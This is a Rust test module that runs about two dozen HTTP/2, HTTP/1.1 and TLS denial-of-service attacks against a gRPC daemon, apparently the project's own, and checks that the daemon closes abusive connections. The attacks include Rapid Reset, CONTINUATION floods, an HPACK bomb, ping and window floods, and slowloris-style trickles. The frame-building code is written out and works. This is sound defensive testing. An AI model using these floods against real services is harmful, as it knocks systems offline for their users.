//! What is done to the daemon. Each attack runs on one connection until its time is over or the daemon has closed it.
#![expect(clippy::wildcard_enum_match_arm, reason = "attacks come in groups, each with its own way to begin")]

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use rustls::crypto::aws_lc_rs;
use rustls::{ClientConfig, ClientConnection, RootCertStore};
use tokio::time::{Instant, sleep};

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, PING, PREFACE, PRIORITY, RST_STREAM,
    TABLE_SIZE, WINDOW_UPDATE, call, frame, header, message, remembered, setting,
};
use super::peer::Peer;

/// How long a peer that says hello waits before it goes away and comes again.
const HELLO_EVERY: Duration = Duration::from_millis(40);

/// An attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Attack {
    /// Streams that are opened and reset at once (CVE-2023-44487).
    RapidReset,
    /// Streams that the daemon itself must reset.
    MadeYouReset,
    /// A header block that never ends (CVE-2024-27316).
    Continuations,
    /// The same, with nothing in it.
    EmptyContinuations,
    /// Frames without a byte on an open stream (CVE-2019-9518).
    EmptyData,
    /// More headers than are allowed, again and again.
    ManyHeaders,
    /// One header of 4 KB, named eight thousand times in a byte each.
    HpackBomb,
    /// Settings that must all be confirmed (CVE-2019-9515).
    Settings,
    /// Probes that must all be answered (CVE-2019-9512).
    Pings,
    /// The same, and nothing that the daemon says is read.
    UnreadPings,
    /// Windows that grow by a byte.
    WindowUpdates,
    /// A window that grows beyond what there can be.
    WindowOverflow,
    /// Frames that mean nothing.
    PriorityAndUnknown,
    /// A frame that claims 16 MB.
    GiantFrame,
    /// Messages that claim 4 GB.
    LyingLength,
    /// Messages that claim to be compressed.
    Compressed,
    /// Calls whose messages come in drops, on every stream there may be.
    SlowBodies,
    /// Long lists that are asked for and not read (CVE-2019-9517).
    UnreadLists,
    /// Nothing.
    Silence,
    /// The preface in drops.
    SlowPreface,
    /// The preface, then nothing.
    SilenceAfterPreface,
    /// HTTP/1.1 headers in drops.
    SlowHttp1,
    /// HTTP/1.1 headers without end.
    EndlessHttp1,
    /// HTTP/1.1 requests without waiting for answers.
    PipelinedHttp1,
    /// The head of a TLS record, then nothing.
    HalfRecord,
    /// A TLS hello that is answered with a signature, then nothing.
    HelloThenSilence,
    /// TLS hellos without end, each on a connection of its own.
    Hellos,
}

impl Attack {
    /// What is done to a daemon that speaks plainly.
    pub(super) const PLAIN: [Self; 24] = [
        Self::RapidReset,
        Self::MadeYouReset,
        Self::Continuations,
        Self::EmptyContinuations,
        Self::EmptyData,
        Self::ManyHeaders,
        Self::HpackBomb,
        Self::Settings,
        Self::Pings,
        Self::UnreadPings,
        Self::WindowUpdates,
        Self::WindowOverflow,
        Self::PriorityAndUnknown,
        Self::GiantFrame,
        Self::LyingLength,
        Self::Compressed,
        Self::SlowBodies,
        Self::UnreadLists,
        Self::Silence,
        Self::SlowPreface,
        Self::SilenceAfterPreface,
        Self::SlowHttp1,
        Self::EndlessHttp1,
        Self::PipelinedHttp1,
    ];

    /// What is done to one that speaks TLS only, before anybody is known.
    pub(super) const BEFORE_TLS: [Self; 6] = [
        Self::Silence,
        Self::SlowPreface,
        Self::PipelinedHttp1,
        Self::HalfRecord,
        Self::HelloThenSilence,
        Self::Hellos,
    ];

    /// Whether the daemon must close the connection while the attack goes on. The others break no rule of the protocol:
    /// they are slowed down by flow control, or answered.
    pub(super) const fn must_be_closed(self) -> bool {
        match self {
            Self::RapidReset
            | Self::MadeYouReset
            | Self::Continuations
            | Self::EmptyContinuations
            | Self::WindowOverflow
            | Self::GiantFrame
            | Self::UnreadLists
            | Self::Silence
            | Self::SlowPreface
            | Self::SilenceAfterPreface
            | Self::EndlessHttp1
            | Self::HalfRecord
            | Self::HelloThenSilence => true,
            Self::EmptyData
            | Self::ManyHeaders
            | Self::HpackBomb
            | Self::Settings
            | Self::Pings
            | Self::UnreadPings
            | Self::WindowUpdates
            | Self::PriorityAndUnknown
            | Self::LyingLength
            | Self::Compressed
            | Self::SlowBodies
            | Self::SlowHttp1
            | Self::PipelinedHttp1
            | Self::Hellos => false,
        }
    }

    /// How long it goes on: as long as the daemon may take to find it out, and the others to cost something.
    pub(super) const fn lasts(self) -> Duration {
        match self {
            // An honest client that is short of CPU time answers late, too: only then its connection is closed.
            Self::SilenceAfterPreface => Duration::from_secs(12),
            _ => Duration::from_secs(3),
        }
    }

    /// Attacks until `until`; tells whether the daemon closed the connection. None when it could not even connect.
    pub(super) async fn run(self, address: SocketAddr, until: Instant) -> Option<bool> {
        let plain = matches!(
            self,
            Self::Silence
                | Self::SlowPreface
                | Self::SilenceAfterPreface
                | Self::SlowHttp1
                | Self::EndlessHttp1
                | Self::PipelinedHttp1
                | Self::HalfRecord
                | Self::HelloThenSilence
                | Self::Hellos
        );
        let mut peer = if plain {
            Peer::connect(address, self == Self::PipelinedHttp1).await
        } else {
            Peer::greet(address, self == Self::UnreadPings).await
        }
        .ok()?;
        match self {
            Self::Silence
            | Self::SlowPreface
            | Self::SilenceAfterPreface
            | Self::HalfRecord
            | Self::HelloThenSilence => {
                self.keep_silent(&mut peer, until).await;
            }
            Self::Hellos => {
                peer.say(&hello()).await;
                // The answer is on its way: a signature has been made.
                sleep(HELLO_EVERY).await;
                return Some(peer.is_closed());
            }
            Self::SlowHttp1 | Self::EndlessHttp1 | Self::PipelinedHttp1 => self.speak_http1(&mut peer, until).await,
            Self::SlowBodies | Self::UnreadLists => self.hold_streams(&mut peer, until).await,
            Self::LyingLength | Self::Compressed | Self::EmptyData => self.lie(&mut peer, until).await,
            _ => self.flood(&mut peer, until).await,
        }
        Some(peer.is_closed_by(until).await)
    }

    async fn flood(self, peer: &mut Peer, until: Instant) {
        let list = call("DispatchService/ListUnits");
        match self {
            Self::RapidReset => {
                peer.flood(until, |n| {
                    let opened = frame(HEADERS, END_HEADERS, odd(n), &list);
                    [opened, frame(RST_STREAM, 0, odd(n), &8_u32.to_be_bytes())].concat()
                })
                .await;
            }
            Self::MadeYouReset => {
                // A window of no size is an error of its stream: the daemon resets it.
                peer.flood(until, |n| {
                    let opened = frame(HEADERS, END_HEADERS, odd(n), &list);
                    [opened, frame(WINDOW_UPDATE, 0, odd(n), &0_u32.to_be_bytes())].concat()
                })
                .await;
            }
            Self::Continuations | Self::EmptyContinuations => {
                peer.say(&frame(HEADERS, 0, 1, &list)).await;
                let more = if self == Self::Continuations { header("x", "y") } else { Vec::new() };
                peer.flood(until, |_| frame(CONTINUATION, 0, 1, &more)).await;
            }
            Self::ManyHeaders => {
                let many = header("x-many", "no").repeat(1_000);
                peer.flood(until, |n| {
                    let first = frame(HEADERS, END_STREAM, odd(n), &list);
                    [first, frame(CONTINUATION, 0, odd(n), &many), frame(CONTINUATION, END_HEADERS, odd(n), &many)]
                        .concat()
                })
                .await;
            }
            Self::HpackBomb => {
                let planted = [list.clone(), remembered("x-bomb", &"b".repeat(3_900))].concat();
                peer.say(&frame(HEADERS, END_HEADERS | END_STREAM, 1, &planted)).await;
                let bomb = [list, vec![0xbe; 8_000]].concat();
                peer.flood(until, |n| frame(HEADERS, END_HEADERS | END_STREAM, odd(n + 1), &bomb)).await;
            }
            Self::Settings => peer.flood(until, |n| setting(TABLE_SIZE, n % 2 * 4_096)).await,
            Self::Pings | Self::UnreadPings => peer.flood(until, |_| frame(PING, 0, 0, &[7; 8])).await,
            Self::WindowUpdates => peer.flood(until, |_| frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())).await,
            Self::WindowOverflow => {
                let most = (u32::MAX >> 1).to_be_bytes();
                peer.flood(until, |_| frame(WINDOW_UPDATE, 0, 0, &most)).await;
            }
            Self::PriorityAndUnknown => {
                peer.flood(until, |n| {
                    let priority = frame(PRIORITY, 0, odd(n % 1_000), &[0, 0, 0, 0, 1]);
                    [priority, frame(0xee, 0xff, 0, &[1; 64])].concat()
                })
                .await;
            }
            Self::GiantFrame => {
                peer.say(&[0xff, 0xff, 0xff, DATA, 0, 0, 0, 0, 1]).await;
            }
            other => unreachable!("{other:?} is no flood"),
        }
    }

    /// Messages that are not what they say, each on a stream of its own; or one stream with frames of nothing.
    async fn lie(self, peer: &mut Peer, until: Instant) {
        let method = if self == Self::EmptyData { "DispatchService/Submit" } else { "DispatchService/FileReport" };
        let opened = call(method);
        if self == Self::EmptyData {
            peer.say(&frame(HEADERS, END_HEADERS, 1, &opened)).await;
            peer.flood(until, |_| frame(DATA, 0, 1, &[])).await;
            return;
        }
        let lie = match self {
            Self::LyingLength => message(false, u32::MAX, &[1; 64]),
            _ => message(true, 64, &[0x1f; 64]),
        };
        peer.flood(until, |n| {
            [frame(HEADERS, END_HEADERS, odd(n), &opened), frame(DATA, END_STREAM, odd(n), &lie)].concat()
        })
        .await;
    }

    /// As many streams as there may be, each of which wants something of the daemon for as long as it likes.
    async fn hold_streams(self, peer: &mut Peer, until: Instant) {
        if self == Self::UnreadLists {
            peer.say(&setting(INITIAL_WINDOW, 0)).await;
        }
        let list = [0x20, 0xe8, 0x07];
        for n in 0..250 {
            let bytes = if self == Self::UnreadLists {
                let opened = frame(HEADERS, END_HEADERS, odd(n), &call("DispatchService/ListUnits"));
                [opened, frame(DATA, END_STREAM, odd(n), &message(false, 3, &list))].concat()
            } else {
                let opened = frame(HEADERS, END_HEADERS, odd(n), &call("DispatchService/FileReport"));
                [opened, frame(DATA, 0, odd(n), &message(false, 60_000, b"a"))].concat()
            };
            peer.say(&bytes).await;
        }
        let mut n = 0;
        while Instant::now() < until && !peer.is_closed() {
            sleep(Duration::from_millis(5)).await;
            if self == Self::SlowBodies {
                peer.say(&frame(DATA, 0, odd(n % 250), b"a")).await;
                n += 1;
            }
        }
    }

    async fn keep_silent(self, peer: &mut Peer, until: Instant) {
        match self {
            Self::SlowPreface => {
                for byte in PREFACE {
                    if Instant::now() > until || !peer.say(&[*byte]).await {
                        return;
                    }
                    sleep(Duration::from_millis(200)).await;
                }
            }
            Self::SilenceAfterPreface => {
                peer.say(PREFACE).await;
            }
            Self::HalfRecord => {
                // A handshake record of 512 bytes, of which three come.
                peer.say(&[22, 3, 1, 2, 0, 1, 0, 1]).await;
            }
            Self::HelloThenSilence => {
                peer.say(&hello()).await;
            }
            _ => {}
        }
    }

    async fn speak_http1(self, peer: &mut Peer, until: Instant) {
        const REQUEST: &[u8] = b"POST /patrol.v1.DispatchService/ListUnits HTTP/1.1\r\nhost: a\r\n";
        match self {
            Self::PipelinedHttp1 => {
                peer.flood(until, |_| [REQUEST, b"content-length: 0\r\n\r\n"].concat()).await;
            }
            Self::EndlessHttp1 => {
                peer.say(REQUEST).await;
                peer.flood(until, |n| format!("x-{n}: {}\r\n", "y".repeat(100)).into_bytes()).await;
            }
            _ => {
                peer.say(REQUEST).await;
                let mut n = 0;
                while Instant::now() < until && peer.say(format!("x-{n}: y\r\n").as_bytes()).await {
                    sleep(Duration::from_millis(50)).await;
                    n += 1;
                }
            }
        }
    }
}

/// A client's first words of TLS, with a key share of its own.
fn hello() -> Vec<u8> {
    let provider = Arc::new(aws_lc_rs::default_provider());
    let config = ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions().expect("versions");
    let config = config.with_root_certificates(RootCertStore::empty()).with_no_client_auth();
    let name = "localhost".try_into().expect("a name");
    let mut bytes = Vec::new();
    let mut client = ClientConnection::new(Arc::new(config), name).expect("a client");
    client.write_tls(&mut bytes).expect("written");
    bytes
}

/// The number of a client's n-th stream.
const fn odd(n: u32) -> u32 {
    2 * n + 1
}
